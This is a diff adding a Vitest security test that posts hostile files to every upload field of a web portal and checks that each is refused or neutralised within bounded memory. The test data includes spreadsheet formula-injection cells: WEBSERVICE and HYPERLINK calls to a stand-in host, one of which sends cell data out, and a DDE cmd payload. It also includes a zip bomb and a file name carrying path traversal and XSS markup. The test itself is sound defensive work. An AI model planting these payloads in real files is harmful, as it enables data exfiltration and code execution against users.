@@ -1,0 +1,376 @@
+// Generated upload checks (issue #11): every file input found on the screens of the route table is
+// sent hostile files: empty, just over the size limit (streamed), the wrong content for its name,
+// a workbook that inflates to hundreds of megabytes, workbooks with external links, macros and
+// formulas, a CSV with formula cells, a PDF that runs JavaScript. Each is refused with a message
+// of the translation catalogue, or accepted under the upload's documented rules (an .xlsx with
+// xlsx content, at most 10 MB and 1000 lines, formulas read as their cached result only); never
+// a 5xx, and the portal's memory stays bounded while it reads them.
+import { randomBytes } from 'node:crypto';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { request as httpRequest } from 'node:http';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { endpoints } from '~/endpoints';
+import { readBulkWorkbook } from '~/lib/spreadsheet/bulk-workbook.server';
+import { BULK_FILE_MAX_SIZE } from '~/lib/validation/files';
+import { fullSuite, recordFigures } from '../support/figures';
+import {
+  formulaCsv,
+  pdfWithJavaScript,
+  workbook,
+  zipBomb,
+  type Cell,
+} from '../support/hostile-files';
+import type { CookieJar } from '../support/http-sign-in';
+import { submittedPairs, type PageForm } from '../support/page-forms';
+import { startPortal, type PortalProcess } from '../support/portal-process';
+import { DemoScreens } from '../support/screen-forms';
+import { screenPaths } from '../support/screen-paths';
+import { decodeEntities, validationMessages } from '../support/translated-messages';
+
+/** Most the portal (and its backend) may grow while refusing hostile files. */
+const memoryBudgetMb = 150;
+
+interface UploadField {
+  form: PageForm;
+  field: string;
+  jar: CookieJar;
+  screen: string;
+}
+
+interface HostileFile {
+  label: string;
+  name: string;
+  contentType: string;
+  /** The bytes, or a size to stream (zip signature, then zeros) without holding it in memory. */
+  content: Buffer | { streamedSize: number };
+  /** 'refused': with one of these catalogue messages; 'neutralised': refused, or accepted with
+   * every formula read as its cached result. */
+  expected: { refused: readonly string[] } | 'neutralised';
+}
+
+const messages = validationMessages('nl');
+
+/** The catalogue keys whose message the page's error summary shows. */
+function shownMessages(html: string): string[] {
+  const summary = /<div class="error-summary"[\s\S]*?<\/ul>/.exec(html)?.[0];
+  if (!summary) return [];
+  const text = decodeEntities(summary);
+  return [...messages].filter(([, pattern]) => pattern.test(text)).map(([key]) => key);
+}
+
+/** Resident memory of the portal and its backend child, in bytes (peak: since the last reset). */
+/** The portal's process and its children (the embedded backend). */
+function processesOf(pid: number): number[] {
+  const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim();
+  return [pid, ...(children ? children.split(/\s+/).map(Number) : [])];
+}
+
+function memoryOf(pid: number): { rss: number; peak: number } {
+  let rss = 0;
+  let peak = 0;
+  for (const id of processesOf(pid)) {
+    const status = readFileSync(`/proc/${id}/status`, 'utf8');
+    const read = (name: string) =>
+      Number(new RegExp(`${name}:\\s+(\\d+) kB`).exec(status)?.[1] ?? 0) * 1024;
+    rss += read('VmRSS');
+    peak += read('VmHWM');
+  }
+  return { rss, peak };
+}
+
+let portal: PortalProcess;
+const uploads: UploadField[] = [];
+let hostileSent = 0;
+
+beforeAll(async () => {
+  portal = await startPortal({ RATE_LIMIT_GENERAL: '1000000', RATE_LIMIT_MUTATIONS: '1000000' });
+}, 60_000);
+
+afterAll(async () => {
+  await portal?.stop();
+});
+
+/** Posts one file in a multipart body with the form's other fields, streaming large contents. */
+function postFile(upload: UploadField, file: HostileFile) {
+  const boundary = `----upload${randomBytes(8).toString('hex')}`;
+  const fields = submittedPairs(upload.form)
+    .filter(([name]) => name !== upload.field)
+    .map(
+      ([name, value]) =>
+        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
+    )
+    .join('');
+  const head = Buffer.from(
+    `${fields}--${boundary}\r\nContent-Disposition: form-data; name="${upload.field}"; filename="${file.name}"\r\nContent-Type: ${file.contentType}\r\n\r\n`,
+  );
+  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
+  const size = Buffer.isBuffer(file.content) ? file.content.length : file.content.streamedSize;
+  return new Promise<{ status: number; location: string | null; body: string }>(
+    (resolve, reject) => {
+      let answered = false;
+      const request = httpRequest(
+        `${portal.url}${upload.form.action}`,
+        {
+          method: 'POST',
+          agent: false,
+          headers: {
+            cookie: upload.jar.header(),
+            origin: portal.url,
+            'content-type': `multipart/form-data; boundary=${boundary}`,
+            'content-length': String(head.length + size + tail.length),
+          },
+        },
+        (response) => {
+          let text = '';
+          response.setEncoding('utf8');
+          response.on('data', (chunk: string) => (text += chunk));
+          response.on('end', () => {
+            answered = true;
+            resolve({
+              status: response.statusCode ?? 0,
+              location: response.headers.location ?? null,
+              body: text,
+            });
+          });
+        },
+      );
+      // The portal may answer an oversized upload before it is all sent and close the connection.
+      request.on('error', (error) => {
+        if (!answered) reject(error);
+      });
+      const write = async () => {
+        request.write(head);
+        if (Buffer.isBuffer(file.content)) {
+          request.write(file.content);
+        } else {
+          // A ZIP signature, then zeros, 64 KiB at a time: the test never holds the whole file.
+          const chunk = Buffer.alloc(64 * 1024);
+          chunk.writeUInt32LE(0x04034b50, 0);
+          let left = file.content.streamedSize;
+          let first = true;
+          while (left > 0) {
+            const piece = chunk.subarray(0, Math.min(left, chunk.length));
+            if (!request.write(first ? piece : Buffer.alloc(piece.length))) {
+              await new Promise<void>((resume) => request.once('drain', () => resume()));
+            }
+            first = false;
+            left -= piece.length;
+            if (request.destroyed) return;
+          }
+        }
+        request.end(tail);
+      };
+      write().catch(reject);
+    },
+  );
+}
+
+const formulaRows: Cell[][] = [
+  ['Naam', 'Bedrag'],
+  ['Peeters', { formula: 'HYPERLINK("http://kwaadaardig.example/","klik")', result: 'klik' }],
+  ['Janssens', { formula: "cmd|' /C calc'!A0", result: '0' }],
+  ['Maes', { formula: 'WEBSERVICE("http://kwaadaardig.example/?"&A2)', result: '' }],
+];
+
+/** The hostile files, built once per run. */
+function hostileFiles(): HostileFile[] {
+  const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+  const pdf = pdfWithJavaScript();
+  return [
+    {
+      label: 'empty',
+      name: 'leeg.xlsx',
+      contentType: xlsx,
+      content: Buffer.alloc(0),
+      expected: { refused: ['required'] },
+    },
+    {
+      label: 'one byte over the limit',
+      name: 'groot.xlsx',
+      contentType: xlsx,
+      content: { streamedSize: BULK_FILE_MAX_SIZE + 1 },
+      expected: { refused: ['files.tooLarge'] },
+    },
+    {
+      label: 'PDF bytes named .xlsx',
+      name: 'lijst.xlsx',
+      contentType: xlsx,
+      content: pdf,
+      expected: { refused: ['files.xlsxOnly'] },
+    },
+    {
+      label: 'ZIP bytes named .pdf',
+      name: 'brief.pdf',
+      contentType: 'application/pdf',
+      content: workbook([['Naam'], ['Peeters']]),
+      expected: { refused: ['files.xlsxOnly'] },
+    },
+    {
+      label: 'zip bomb',
+      name: 'bom.xlsx',
+      contentType: xlsx,
+      content: zipBomb(fullSuite ? 1024 : 256),
+      expected: { refused: ['files.tooLargeUnpacked'] },
+    },
+    {
+      label: 'external links',
+      name: 'extern.xlsx',
+      contentType: xlsx,
+      content: workbook(
+        [
+          ['Naam', 'Waarde'],
+          ['Peeters', { formula: '[1]Blad1!A1', result: 'extern' }],
+        ],
+        { externalLink: true },
+      ),
+      expected: 'neutralised',
+    },
+    {
+      label: 'macros named .xlsx',
+      name: 'macro.xlsx',
+      contentType: xlsx,
+      content: workbook(formulaRows, { macros: true }),
+      expected: 'neutralised',
+    },
+    {
+      label: 'macros named .xlsm',
+      name: 'macro.xlsm',
+      contentType: 'application/vnd.ms-excel.sheet.macroEnabled.12',
+      content: workbook(formulaRows, { macros: true }),
+      expected: { refused: ['files.xlsxOnly'] },
+    },
+    {
+      label: 'formulas',
+      name: 'formules.xlsx',
+      contentType: xlsx,
+      content: workbook(formulaRows),
+      expected: 'neutralised',
+    },
+    {
+      label: 'CSV with formula cells',
+      name: 'lijst.csv',
+      contentType: 'text/csv',
+      content: formulaCsv(),
+      expected: { refused: ['files.xlsxOnly'] },
+    },
+    {
+      label: 'PDF with JavaScript and OpenAction',
+      name: 'brief.pdf',
+      contentType: 'application/pdf',
+      content: pdf,
+      expected: { refused: ['files.xlsxOnly'] },
+    },
+    {
+      label: 'a name with a path and markup',
+      name: '../../<img src=x onerror=alert(1)>.xlsx',
+      contentType: xlsx,
+      content: pdf,
+      expected: { refused: ['files.xlsxOnly', 'fileName.tooLong'] },
+    },
+  ];
+}
+
+describe('uploads, generated from the screens of the route table', () => {
+  it('finds every file input on the screens (the widget gallery has one)', async () => {
+    const screens = new DemoScreens(portal.url);
+    const seen = new Set<string>();
+    for (const screen of screenPaths()) {
+      const { jar, forms } = await screens.open(screen.id, screen.nl);
+      for (const form of forms) {
+        for (const field of form.fields.filter((candidate) => candidate.type === 'file')) {
+          const key = `${form.action.split('?')[0]} ${field.name}`;
+          if (seen.has(key)) continue;
+          seen.add(key);
+          // A file input only uploads from a multipart form: anything else is a broken form.
+          expect(form.method, `${key} posts`).toBe('post');
+          expect(form.enctype, `${key} is multipart`).toBe('multipart/form-data');
+          uploads.push({
+            form,
+            field: field.name,
+            jar,
+            screen: screen.id,
+          });
+        }
+      }
+    }
+    expect(
+      uploads.map((upload) => upload.screen),
+      'no upload field found on any screen',
+    ).not.toEqual([]);
+    recordFigures('security', { 'upload fields found': uploads.length });
+  }, 60_000);
+
+  it('refuses hostile files with a translated message, or neutralises them, in bounded memory', async () => {
+    expect(uploads.length).toBeGreaterThan(0);
+    const files = hostileFiles();
+    const pid = portal.child.pid!;
+    const problems: string[] = [];
+    const before = memoryOf(pid);
+    // Resets the peak (VmHWM) of the portal and its backend, so the peak below is this test's.
+    for (const id of processesOf(pid)) {
+      try {
+        writeFileSync(`/proc/${id}/clear_refs`, '5');
+      } catch {
+        // not permitted: the peak then counts from the process start, which only makes it stricter
+      }
+    }
+    for (const upload of uploads) {
+      for (const file of files) {
+        const answer = await postFile(upload, file);
+        hostileSent += 1;
+        const label = `${upload.screen} ${upload.field} ← ${file.label}`;
+        if (answer.status >= 500) {
+          problems.push(`${label}: ${answer.status}`);
+          continue;
+        }
+        const shown = shownMessages(answer.body);
+        const accepted = answer.status >= 300 && answer.status < 400;
+        if (answer.location?.includes(`/${endpoints.signIn.path}`)) {
+          problems.push(`${label}: sent to sign in, the session was lost`);
+          continue;
+        }
+        if (file.expected === 'neutralised') {
+          if (accepted) {
+            // Accepted: what the portal reads from it holds no formula, only cached results.
+            const bytes = file.content as Buffer;
+            const reading = await readBulkWorkbook(new Uint8Array(bytes));
+            const cells = reading.ok ? reading.workbook.lines.flatMap((line) => line.cells) : [];
+            const formulas = cells.filter((cell) =>
+              /^[=+\-@]|\b(HYPERLINK|WEBSERVICE|cmd)\b/i.test(cell),
+            );
+            if (formulas.length > 0)
+              problems.push(`${label}: accepted with formulas ${formulas.join(', ')}`);
+          } else if (answer.status !== 400 || shown.length === 0) {
+            problems.push(`${label}: ${answer.status} without a catalogue message`);
+          }
+          continue;
+        }
+        const refusedWith = shown.filter(
+          (key) => file.expected !== 'neutralised' && file.expected.refused.includes(key),
+        );
+        if (accepted || answer.status < 400 || refusedWith.length === 0) {
+          problems.push(
+            `${label}: ${answer.status} ${shown.join(', ') || answer.body.slice(0, 120)}; expected ${file.expected.refused.join(' or ')}`,
+          );
+        }
+        if (/<img\b[^>]*onerror/i.test(answer.body))
+          problems.push(`${label}: the file name is reflected as markup`);
+      }
+    }
+    const after = memoryOf(pid);
+    const growthMb = (after.rss - before.rss) / 1024 / 1024;
+    const peakMb = (after.peak - before.rss) / 1024 / 1024;
+    recordFigures('security', {
+      'hostile files sent': hostileSent,
+      'memory growth MB': Math.round(growthMb),
+      'memory peak growth MB': Math.round(peakMb),
+    });
+    expect(problems).toEqual([]);
+    expect(growthMb, 'resident memory growth while refusing hostile files').toBeLessThan(
+      memoryBudgetMb,
+    );
+    expect(peakMb, 'peak resident memory growth while reading hostile files').toBeLessThan(
+      memoryBudgetMb,
+    );
+  }, 180_000);
+});
